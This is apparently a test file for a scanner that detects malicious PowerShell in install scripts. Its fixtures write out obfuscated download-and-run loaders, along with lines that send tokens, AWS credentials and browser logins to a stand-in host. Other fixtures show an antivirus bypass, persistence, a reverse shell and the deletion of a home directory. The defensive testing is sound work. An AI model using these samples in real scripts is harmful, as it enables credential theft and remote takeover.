import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { DEFAULT_LIMITS } from '../../../base/limits.ts'
import { inspectScript } from './inspect-script.ts'

const found = (text: string, kind: 'powershell' | 'shell' = 'powershell'): readonly string[] =>
  inspectScript(text, kind, { path: 'install.ps1', role: 'install' }, DEFAULT_LIMITS).map(
    ({ kind: one, subject, inputs }) =>
      [`${one} ${subject}`, ...inputs.map(({ source, subject: of }) => `< ${source}:${of}`).toSorted()].join(' '),
  )

const PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('https://collect.example/a')"
const LOADS = 'evaluate Invoke-Expression < network:collect.example'
const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const codes = (text: string): string => [...text].map((one) => one.charCodeAt(0)).join(',')

describe('download and run, in disguises', () => {
  const cases: readonly (readonly [name: string, script: string])[] = [
    ['plain', PAYLOAD],
    ['iwr', "iwr https://collect.example/a -UseBasicParsing | % Content | iex".replace('| % Content ', '')],
    ['a variable', "$u = 'https://collect.' + 'example/a'\n$c = Invoke-RestMethod -Uri $u\nInvoke-Expression $c"],
    ['an encoded command', `powershell -NoProfile -w hidden -enc ${wide(PAYLOAD)}`],
    ['backticks', "I`E`X (nEw-oB`jecT nEt.wE`BcLient).('Down'+'loadString').Invoke('https://collect.example/a')".replace('.Invoke(', '(')],
    ['format', `&("{1}{0}" -f 'EX','I') (New-Object Net.WebClient).DownloadString('https://collect.example/a')`],
    ['letters of COMSPEC', `(New-Object Net.WebClient).DownloadString('https://collect.example/a') | & ($env:ComSpec[4,15,25] -join '')`],
    ['letters of a preference', `& ($VerbosePreference.ToString()[1,3]+'x' -join '') (irm https://collect.example/a)`],
    ['base64', `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from(PAYLOAD).toString('base64')}')))`],
    ['characters', `iex ([char[]](${codes(PAYLOAD)}) -join '')`],
    ['characters one by one', `${codes(PAYLOAD)} | % {[char]$_} | Out-Null; (${codes(PAYLOAD)} | foreach { [char][int]$_ }) -join '' | iex`],
    ['reversed', `$s = '${[...PAYLOAD].toReversed().join('').replaceAll("'", "''")}'; iex ($s[-1..-($s.Length)] -join '')`],
    ['reversed array', `$a = '${[...PAYLOAD].toReversed().join('').replaceAll("'", "''")}'.ToCharArray(); [array]::Reverse($a); iex (-join $a)`],
    ['gzip', `$m = New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync(PAYLOAD).toString('base64')}')); iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`],
    ['replace', `iex ('${PAYLOAD.replaceAll("'", "''").replaceAll('e', '~~')}' -replace '~~','e')`],
    ['xor', `iex (-join (${[...PAYLOAD].map((one) => one.charCodeAt(0) ^ 35).join(',')} | % { [char]($_ -bxor 35) }))`],
    ['a script block', `[scriptblock]::Create("${PAYLOAD}").Invoke()`],
    ['a function', `function Get-It($u) { (New-Object Net.WebClient).DownloadString($u) }\niex (Get-It 'https://collect.example/a')`],
    ['an own alias', `Set-Alias zz Invoke-Expression\nzz (irm https://collect.example/a)`],
    ['a command by pattern', `& (gcm i*-expr*) (irm https://collect.example/a)`.replace('i*-expr*', 'in*ke-ex*')],
    ['a here-string', `$c = @'\n${PAYLOAD}\n'@\niex $c`],
  ] // prettier-ignore
  it.each(cases)('%s', (_, script) => {
    const all = found(script)
    expect(all.some((one) => /^evaluate .*< network:collect\.example/.test(one))).toBe(true)
    expect(all.some((one) => one.startsWith('download collect.example'))).toBe(true)
  })
  it('tells what was decoded', () => {
    expect(found(`powershell -enc ${wide(PAYLOAD)}`)).toEqual(
      expect.arrayContaining(['obfuscation encoded-code < decoded:base64', LOADS]),
    )
    expect(found(`echo x\npowershell.exe -w hidden -enc ${wide(PAYLOAD)}`, 'shell')).toEqual(
      expect.arrayContaining(['hide hidden window', LOADS]),
    )
  })
})

describe('what is done', () => {
  const cases: readonly (readonly [script: string, found: readonly string[]])[] = [
    ['$b = gci env: | ConvertTo-Json\nInvoke-WebRequest -Uri https://collect.example -Method Post -Body $b', ['read-environment *', 'network collect.example < environment:*']],
    ['irm https://collect.example -Method POST -Headers @{ a = $env:NPM_TOKEN }', ['read-environment NPM_TOKEN', 'network collect.example < environment:NPM_TOKEN']],
    ['$d = Get-Content "$env:USERPROFILE\\.aws\\credentials" -Raw\n$w = New-Object System.Net.WebClient\n$w.UploadString("https://collect.example", $d)', ['read-secret-file .aws', 'network collect.example < secret-file:.aws']],
    ['Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" $env:TEMP\\l\n(New-Object Net.WebClient).UploadFile("https://collect.example","$env:TEMP\\l")', ['browser-store browser', 'network collect.example < browser-store:browser']],
    ["[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", ['hide from the virus scanner']],
    ["Add-MpPreference -ExclusionPath 'C:\\'", ['hide from the virus scanner']],
    ["Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value y", ['persist run key']],
    ["Register-ScheduledTask -TaskName x -Action $a", ['persist scheduled task']],
    ['Get-Clipboard', ['clipboard clipboard']],
    ['$g = [Drawing.Graphics]::FromImage($b); $g.CopyFromScreen(0,0,0,0,$s)', ['spy screen']],
    ['Start-Process powershell -WindowStyle Hidden -ArgumentList "-c","whoami"', ['hide hidden window', 'execute powershell']],
    ['Invoke-WebRequest https://a.example/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe', ['download a.example < network:a.example', 'execute …/Temp\\x.exe < network:a.example']],
    ['$c = New-Object System.Net.Sockets.TCPClient("203.0.113.7",443);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){;$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0, $i);$o = (iex $s 2>&1 | Out-String )}', ['reverse-shell 203.0.113.7 < network:203.0.113.7']],
    ['Remove-Item -Recurse -Force $HOME', ['destroy ~']],
    ['Resolve-DnsName "$($env:COMPUTERNAME).collect.example"', ['dns ….collect.example < host-facts:COMPUTERNAME']],
    ['schtasks /create /tn x /tr y', ['persist scheduled task']],
    ['[Reflection.Assembly]::Load([Convert]::FromBase64String("TVqQAAMAAAA="))', ['evaluate Assembly.Load < decoded:base64']],
  ] // prettier-ignore
  it.each(cases)('%s', (script, expected) => expect(found(script)).toEqual(expect.arrayContaining([...expected])))
})

describe('honest twins', () => {
  const cases: readonly string[] = [
    '$script = Join-Path $PSScriptRoot "x.ps1"\n& $script -Verbose',
    'param([string]$Path = "a", [switch]$Force)\nif (Test-Path $Path) { Remove-Item -Recurse $Path }',
    '[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aGVsbG8="))',
    "$names = 'a','b' -join ','; Write-Host $names",
    "Write-Host ('{0} of {1}' -f 1, 2)",
    '$env:PATH = "$env:VIRTUAL_ENV\\Scripts;" + $env:PATH',
    'function global:deactivate ([switch]$NonDestructive) { if (Test-Path variable:_OLD) { $env:PATH = $variable:_OLD } }',
    'Set-Alias ll Get-ChildItem; ll',
    '$x = "abc"[0]; Write-Output $x',
  ]
  it.each(cases)('%s', (script) => {
    expect(found(script).filter((one) => !/^(?:execute|write-file)/.test(one))).toEqual([])
  })
})

describe('a megabyte of nastiness', () => {
  const pieces = ['(', '{', '$(', '"$(', '@{', '@(', '[', '`', "'", '"', '@"\n', '<#', 'if(', 'if{', 'a|', '$x=$x+$x\n', '$x+=$x\n', '[char]', '-join', '-', ',', '$x[', '.a(', '$a.', 'function a{', 'a {', '& ', 'iex ', "iex 'a'\n", '1..99999|%{$_}\n', '$x-', 'a,', ')', '}', 'foreach($a in', 'param('] // prettier-ignore
  it.each(pieces)('%j', (piece) => {
    const start = performance.now()
    found(piece.repeat(Math.floor((1 << 20) / piece.length)))
    expect(performance.now() - start).toBeLessThan(8000)
  })
})
